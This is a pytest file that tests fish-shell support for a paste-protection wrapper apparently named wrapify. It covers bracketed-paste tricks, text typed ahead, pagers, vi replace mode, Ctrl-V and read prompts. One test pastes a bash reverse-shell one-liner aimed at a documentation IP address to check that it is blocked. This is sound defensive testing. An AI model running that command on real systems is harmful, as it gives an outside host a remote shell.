"""What fish alone has: a pager, modes of its own, `read`, Ctrl-V, and no clock."""

from __future__ import annotations

import pytest

from tests.conftest import Wrapify
from tests.sandbox.terminal import until
from tests.shell.shells import CANDIDATES, Shell, opened

FISHES = [one for one in CANDIDATES if one not in ("bash", "zsh")]
pytestmark = [pytest.mark.shell, pytest.mark.parametrize("name", FISHES)]


def asks(shell: Shell, *keys: str) -> None:
    """See that the last of the keys brings the question, and give the text back."""
    shell.keys(*keys)
    shell.answer("e")


@pytest.mark.parametrize("burnt", ["x" * 300, "x\x7f" * 200, "\x1b[D\x1b[C" * 200], ids=["typed", "deleted", "moved"])
def test_an_enter_that_comes_long_after_the_paste_but_with_it(wrapify: Wrapify, name: str, burnt: str) -> None:
    with opened(wrapify, name) as shell:
        shell.ready()
        shell.paste(f"touch slow\x1b[201~; true {burnt}\r", shown="touch slow")
        shell.answer("e")
        assert not shell.made("slow")


def test_what_came_with_the_paste_is_told_and_stays(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name) as shell:
        shell.ready()
        shell.paste("touch first\x1b[201~\rtouch second\r", shown="touch first")
        shell.answer("e")
        until(lambda: shell.lines()[-1] == "ready> touch first", shell.screen)
        assert "also came, and was not run: touch second" in shell.screen()
        assert not shell.made("second")


def test_what_was_typed_ahead_is_told_and_stays(wrapify: Wrapify, name: str) -> None:
    wrapify.put("bin/timeout", '#!/bin/sh\nuntil [ -e ~/go ]; do sleep 0.01; done; exec /usr/bin/timeout "$@"\n', 0o755)
    tall = "function fish_prompt; echo top; echo -n 'ready> '; end; set -gx PATH ~/bin $PATH"
    with opened(wrapify, name, after=tall) as shell:
        shell.ready()
        shell.paste("sudo touch first")
        shell.keys("Enter")
        shell.look()
        shell.type("touch ahead", enter=False)
        shell.look()
        wrapify.put("go", "")
        shell.answer("e")
        until(lambda: shell.lines()[-2:] == ["top", "ready> sudo touch first"], shell.screen)
        assert shell.lines()[-3] == "wrapify: also came, and was not run: touch ahead"


def test_what_is_blocked_is_told_in_colour(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name) as shell:
        shell.ready()
        shell.paste("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
        shell.keys("Enter")
        shell.contains("Blocked")
        shown = shell.tmux("capture-pane", "-p", "-e").partition("Blocked")[0]
        assert "1m" in shown.rpartition("\n")[2]


def test_an_open_pager_lets_no_paste_by(wrapify: Wrapify, name: str) -> None:
    for one in ("pager1", "pager2"):
        wrapify.put(one, "")
    with opened(wrapify, name) as shell:
        shell.ready()
        shell.paste("sudo rm pager")
        shell.keys("Tab")
        shell.contains("pager2")
        shell.look()
        shell.keys("Enter")
        shell.look()
        assert not shell.questioned()
        asks(shell, "Enter")
        assert shell.made("pager1")


def test_the_replace_mode_of_vi(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name, after="fish_vi_key_bindings") as shell:
        shell.ready()
        shell.keys("Escape")
        shell.contains("[N]")
        shell.keys("R")
        shell.contains("[R]")
        shell.paste("sudo touch replaced")
        asks(shell, "Enter")
        assert not shell.made("replaced")


def test_what_read_asks_for_is_data(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name) as shell:
        shell.type("read -P 'name? ' x; echo got-$x")
        shell.contains("name?")
        shell.look()
        shell.paste("sudo rm x; y")
        shell.keys("Enter")
        shell.shows("got-sudo rm x; y")


def test_the_clipboard_by_control_v(wrapify: Wrapify, name: str) -> None:
    wrapify.put("bin/pbpaste", "#!/bin/sh\nprintf 'sudo touch by-clipboard'\n", 0o755)
    with opened(wrapify, name, before="set -gx PATH ~/bin $PATH") as shell:
        shell.ready()
        shell.keys("C-v")
        shell.contains("by-clipboard")
        shell.look()
        asks(shell, "Enter")
        assert not shell.made("by-clipboard")


def test_what_was_bound_to_enter_is_called(wrapify: Wrapify, name: str) -> None:
    mine = "function mine; touch ~/was-called; commandline -f execute; end; bind \\r mine"
    with opened(wrapify, name, before=mine) as shell:
        assert shell.run("touch by-mine") == 0
        assert (shell.made("was-called"), shell.made("by-mine")) == (True, True)
        shell.run("bind \\r execute")
        assert shell.run("touch natively") == 0
        shell.paste("sudo touch bound-later")
        asks(shell, "Enter")
        assert not shell.made("bound-later")


def test_a_line_for_bash_is_judged_too(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name) as shell:
        shell.ready()
        shell.paste("X=$(sudo touch for-bash) && [[ -n $X ]]")
        asks(shell, "Enter")
        assert not shell.made("for-bash")


def test_a_message_stands_above_a_prompt_of_several_lines(wrapify: Wrapify, name: str) -> None:
    tall = "function fish_prompt; echo; echo top; echo -n 'ready> '; end"
    with opened(wrapify, name, after=tall) as shell:
        shell.ready()
        shell.type("if true", enter=False)
        shell.keys("M-Enter")
        shell.type("echo !!sandbox; end")
        shell.contains("works only at the start")
        until(lambda: shell.lines()[-4:-2] == ["", "top"], shell.screen)
        assert shell.lines()[-5].startswith("wrapify: ")


def test_what_two_pastes_have_in_common(wrapify: Wrapify, name: str) -> None:
    with opened(wrapify, name) as shell:
        shell.run("echo [(__wrapify_common '^%s' 'a.b*' 'a.b*c')] [(__wrapify_common '%s\\z' xyz z)] 1")
        shell.shows("[a.b*] [z] 1")
        shell.run("count (__wrapify_common '^%s' ab ac) (__wrapify_common '^%s' 'a'\\n'b' 'a'\\n'b'\\n'c')")
        shell.shows("1")
